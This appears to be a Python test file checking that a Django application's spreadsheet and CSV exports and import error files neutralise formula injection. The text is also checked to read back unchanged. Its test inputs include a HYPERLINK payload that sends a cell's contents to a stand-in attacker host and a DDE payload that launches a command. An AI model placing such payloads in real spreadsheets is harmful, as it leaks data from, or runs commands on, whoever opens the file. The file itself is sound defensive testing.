"""No text a person typed becomes a live formula in any spreadsheet zhuqi writes (OWASP's CSV
injection), and what was neutralised reads back as it was typed: every export and error file is
opened with openpyxl and every cell looked at; the CSV error file's cells start with an apostrophe;
an export imported back gives the same names; and no module writes a workbook or a CSV other than
through core.spreadsheets."""

from __future__ import annotations

import ast
import csv
import datetime
import io
from decimal import Decimal
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from django.test import Client
from hypothesis import given, settings
from hypothesis import strategies as st

import zhuqi
from zhuqi.cases import figures
from zhuqi.cases import services as case_services
from zhuqi.cases.exporting import export_figures
from zhuqi.cases.models import CaseCategory, Kind
from zhuqi.cases.services import NewCase
from zhuqi.core.periods import Period
from zhuqi.core.spreadsheets import formula_like, neutralise, restore, write_csv, write_workbook
from zhuqi.core.tabular import read_table, write_error_file
from zhuqi.core.validators import make_uscc
from zhuqi.enterprises.importing import import_enterprises
from zhuqi.enterprises.models import Assignment, Enterprise
from zhuqi.investment import services as investment_services
from zhuqi.investment.services import AgreementData
from zhuqi.projects.importing import import_projects
from zhuqi.testing.factories import Cast, DepartmentFactory, PostFactory, make_project
from zhuqi.visits import services as visit_services
from zhuqi.visits.services import Attendance, VisitData

HOSTILE = '=HYPERLINK("http://attacker.example/leak?"&A1,"点击查看")'
HOSTILE_TEXTS = [HOSTILE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "＝1+1", "\t=1+1", "=1+1"]


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def _body(response: Any) -> bytes:
    assert response.status_code == 200, response.content[:300]
    return b"".join(response.streaming_content) if response.streaming else response.content


def assert_no_formula(body: bytes, *expected: str) -> None:
    """Every cell of every sheet: none a formula (or an error cell); each text a spreadsheet would
    run carries Excel's quote prefix; and the texts `expected` are there, unchanged."""
    workbook = openpyxl.load_workbook(io.BytesIO(body))
    texts = set()
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type not in ("f", "e"), (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.add(cell.value)
                    if formula_like(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
    for text in expected:
        assert any(text in value for value in texts), text


# --- the rule ------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", [*HOSTILE_TEXTS, "  =1+1", "\u3000=1", "'=1+1", "''@x", "-", "+86 138"])
def test_a_text_a_spreadsheet_would_run_is_quoted_and_restored(text: str) -> None:
    assert neutralise(text).startswith("'")
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["-5", "+86", "-1.5e3", "联晟新材料", "'abc", "a=b", "", "1-2"])
def test_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert neutralise(text) == text and restore(text) == text


@settings(max_examples=300, deadline=None)
@given(st.text())
def test_restore_undoes_neutralise_for_any_text(text: str) -> None:
    assert restore(neutralise(text)) == text
    assert not formula_like(neutralise(text))


# Text a cell can hold and the importers read back as it is: no control characters (XML 1.0
# cannot carry most of them) and no surrounding spaces (the importers trim every cell).
cell_text = st.text(
    st.characters(blacklist_categories=["Cc", "Cs"], blacklist_characters="\u2028\u2029\x85"), max_size=40
).map(str.strip)
leading = st.sampled_from(["", "=", "+", "-", "@", "'", "''=", "＝", "－"])
cell_texts = st.tuples(leading, cell_text).map("".join).filter(lambda text: text == text.strip())


@settings(max_examples=60, deadline=None)
@given(st.lists(cell_texts, min_size=1, max_size=6))
def test_any_text_goes_out_to_xlsx_and_csv_and_reads_back_the_same(texts: list[str]) -> None:
    columns = [(f"列{index}", 10) for index in range(len(texts) + 1)]
    line = ["行", *texts]  # a first cell, so that no row is blank (the importers skip those)
    body = write_workbook("表", columns, [line])
    assert_no_formula(body)
    _, rows = read_table(io.BytesIO(body), "back.xlsx")
    assert [["" if cell is None else cell for cell in cells] for _, cells in rows] == [line]

    buffer = io.StringIO()
    write_csv(buffer, [[title for title, _ in columns], line])
    _, csv_rows = read_table(io.BytesIO(buffer.getvalue().encode("utf-8-sig")), "back.csv")
    assert [cells for _, cells in csv_rows] == [line]


def test_numbers_stay_numbers_and_csv_fields_are_all_quoted() -> None:
    body = write_workbook("表", [("a", 8), ("b", 8), ("c", 8)], [[-5, Decimal("-1.5"), -2.5]])
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    assert sheet is not None
    assert [(cell.value, cell.data_type) for cell in sheet[2]] == [(-5, "n"), (-1.5, "n"), (-2.5, "n")]
    buffer = io.StringIO()
    write_csv(buffer, [["a;=1+1", "=1+1", -5, None]])
    assert buffer.getvalue() == '"a;=1+1","\'=1+1","-5",""\r\n'


# --- every export -------------------------------------------------------------------------------


@pytest.mark.django_db
def test_the_enterprise_export_writes_no_formula_and_imports_back_the_same_name(cast: Cast) -> None:
    Enterprise.objects.filter(pk=cast.home.pk).update(name=HOSTILE, short_name="@短名")
    body = _body(_client(cast.coordinator).get("/enterprises/export.xlsx"))
    assert_no_formula(body, HOSTILE, "@短名")
    # The name came back empty before ("第2行 [企业名称] 必填"): read back, it is the name.
    report = import_enterprises(actor=cast.coordinator, stream=io.BytesIO(body), filename="back.xlsx")
    assert report.errors == [] and report.created == 0 and report.unchanged == 2
    assert Enterprise.objects.get(pk=cast.home.pk).name == HOSTILE


@pytest.mark.django_db
def test_the_project_export_writes_no_formula_and_imports_back(cast: Cast) -> None:
    project = make_project(name=HOSTILE, content="-拆除旧厂房，+新建车间")
    body = _body(_client(cast.coordinator).get("/projects/", {"export": "xlsx"}))
    assert_no_formula(body, HOSTILE, "-拆除旧厂房，+新建车间")
    report = import_projects(actor=cast.coordinator, stream=io.BytesIO(body), filename="back.xlsx")
    assert report.errors == [] and report.created == 0
    project.refresh_from_db()
    assert project.name == HOSTILE


@pytest.mark.django_db
def test_the_case_ledger_and_the_figures_write_no_formula(cast: Cast) -> None:
    finance = CaseCategory.objects.get(name="融资", parent=None)
    case_services.case_create(
        actor=cast.enterprise_user,
        data=NewCase(kind=Kind.DEMAND, title=HOSTILE, description="详情", category_id=finance.pk),
    )
    body = _body(_client(cast.coordinator).get("/cases/ledger.xlsx", {"tab": "all"}))
    assert_no_formula(body, HOSTILE)

    result = figures.figures_for(
        user=cast.coordinator, period=Period.between(datetime.date(2025, 3, 1), datetime.date(2025, 3, 31))
    )
    # A department's name is what a figures row is called.
    result.rows.append(figures.FigureRow(key=1, name=HOSTILE, cases=3))
    assert_no_formula(export_figures(result), HOSTILE)
    page = _client(cast.coordinator).get("/cases/figures/", {"export": "xlsx"})
    assert_no_formula(_body(page))


@pytest.mark.django_db
def test_the_agreement_and_visit_exports_write_no_formula(cast: Cast) -> None:
    investment_services.agreement_create(
        actor=cast.coordinator,
        data=AgreementData(
            title=HOSTILE,
            kind="investment",
            counterparty_name="@对方",
            our_party_name="霍林郭勒市人民政府",
            region_code="150581",
            signed_on=datetime.date(2026, 2, 18),
            note="+备注",
        ),
    )
    assert_no_formula(
        _body(_client(cast.coordinator).get("/agreements/export.xlsx")), HOSTILE, "@对方", "+备注"
    )

    official = cast.liaison.official
    assert official is not None
    PostFactory(official=official, department=DepartmentFactory(name="霍林郭勒市发改委"), title="科长")
    visit_services.visit_create(
        actor=cast.admin,
        data=VisitData(
            kind="inspection",
            title=HOSTILE,
            start_date=datetime.date(2026, 6, 20),
            lead_official_ids=[official.pk],
            place_codes=["150581"],
            attendance=[Attendance(enterprise_id=cast.home.pk)],
        ),
    )
    assert_no_formula(_body(_client(cast.coordinator).get("/visits/export.xlsx")), HOSTILE)


@pytest.mark.django_db
def test_the_coverage_export_writes_no_formula(cast: Cast) -> None:
    Enterprise.objects.filter(pk=cast.home.pk).update(name=HOSTILE)
    # In force since before the month began, so the enterprise is on the 90-day quiet list.
    Assignment.objects.filter(enterprise=cast.home).update(start_date=datetime.date(2025, 1, 1))
    body = _body(_client(cast.leader).get("/visits/coverage/", {"export": "xlsx"}))
    assert_no_formula(body, HOSTILE)


# --- the import error files ---------------------------------------------------------------------

HEADERS = ["统一社会信用代码", "企业名称", "所在地区", "地址"]


def _bad_rows() -> list[list[Any]]:
    # The second row's region does not exist: it goes to the error file with its hostile cells.
    return [
        [make_uscc("150581", 901), "正常企业有限公司", "150581", "工业园区1号"],
        [make_uscc("150581", 902), HOSTILE, "火星市", "-1+2"],
    ]


@pytest.mark.django_db
def test_the_csv_error_file_quotes_formulas_and_reads_back_to_the_original(
    cast: Cast, tmp_path: Path
) -> None:
    source = tmp_path / "名录.csv"
    with source.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows([HEADERS, *_bad_rows()])
    with source.open("rb") as stream:
        report = import_enterprises(actor=cast.coordinator, stream=stream, filename=source.name)
    target = write_error_file(report, source)
    lines = list(csv.reader(io.StringIO(target.read_text(encoding="utf-8-sig"))))
    assert lines[1][3] == "'" + HOSTILE and lines[1][5] == "'-1+2"
    assert not any(formula_like(cell) for line in lines for cell in line)

    # The office corrects the region in the error file and imports it: the name is as it was.
    lines[1][4] = "150581"
    with target.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(lines)
    with target.open("rb") as stream:
        again = import_enterprises(actor=cast.coordinator, stream=stream, filename=target.name)
    assert again.errors == [] and again.created == 1
    created = Enterprise.objects.get(uscc=make_uscc("150581", 902))
    assert created.name == HOSTILE and created.address == "-1+2"


@pytest.mark.django_db
def test_the_xlsx_error_file_writes_no_formula(cast: Cast, tmp_path: Path) -> None:
    source = tmp_path / "名录.xlsx"
    # The rows as a careless list has them: its author typed what became text cells.
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    for line in [HEADERS, *_bad_rows()]:
        sheet.append(line)
        for cell in sheet[sheet.max_row]:
            cell.data_type = "s"
    workbook.save(source)
    with source.open("rb") as stream:
        report = import_enterprises(actor=cast.coordinator, stream=stream, filename=source.name)
    assert report.bad_row_numbers == [3]
    target = write_error_file(report, source)
    assert_no_formula(target.read_bytes(), HOSTILE, "-1+2")


# --- no writer outside core.spreadsheets --------------------------------------------------------

PACKAGE = Path(zhuqi.__file__).resolve().parent
SHARED = PACKAGE / "core" / "spreadsheets.py"
# Calls that make a workbook, a cell or a CSV writer, or hand a table to pandas to write.
WRITERS = {"Workbook", "WriteOnlyCell", "Cell", "writer", "DictWriter", "to_excel", "to_csv", "xlsxwriter"}


def _writers_in(path: Path) -> list[str]:
    found = []
    label = path.relative_to(PACKAGE) if path.is_relative_to(PACKAGE) else path.name
    tree = ast.parse(path.read_text(encoding="utf-8"), filename=str(path))
    for node in ast.walk(tree):
        if isinstance(node, ast.Call):
            name = node.func.attr if isinstance(node.func, ast.Attribute) else getattr(node.func, "id", "")
            if name in WRITERS:
                found.append(f"{label}:{node.lineno} {name}(…)")
            # A workbook loaded to be changed and saved again is a writer too.
            if name == "load_workbook" and not any(
                keyword.arg == "read_only" and getattr(keyword.value, "value", False) is True
                for keyword in node.keywords
            ):
                found.append(f"{label}:{node.lineno} load_workbook(…) not read-only")
        if (
            isinstance(node, ast.ImportFrom)
            and node.module
            and node.module.split(".")[0] in ("openpyxl", "csv")
        ):
            names = {alias.name for alias in node.names} & WRITERS
            if names:
                found.append(f"{label}:{node.lineno} imports {', '.join(sorted(names))}")
        if isinstance(node, ast.Constant) and node.value == "text/csv":
            found.append(f"{label}:{node.lineno} a text/csv response")
    return found


def _shipped_modules() -> list[Path]:
    return [
        path
        for path in PACKAGE.rglob("*.py")
        if path != SHARED
        and not {"tests", "browser_tests", "testing", "migrations"} & set(path.relative_to(PACKAGE).parts)
    ]


def test_no_module_writes_a_spreadsheet_other_than_through_core_spreadsheets() -> None:
    offenders = [found for path in _shipped_modules() for found in _writers_in(path)]
    assert offenders == [], "write spreadsheets with zhuqi.core.spreadsheets: " + "; ".join(offenders)


def test_the_source_walk_catches_a_writer(tmp_path: Path) -> None:
    sneaky = tmp_path / "sneaky_export.py"
    sneaky.write_text(
        "import csv\nfrom openpyxl import Workbook, load_workbook\n\n\ndef export(rows, handle, path):\n"
        "    csv.writer(handle).writerows(rows)\n    load_workbook(path).save(path)\n    return Workbook()\n",
        encoding="utf-8",
    )
    assert len(_writers_in(sneaky)) == 4
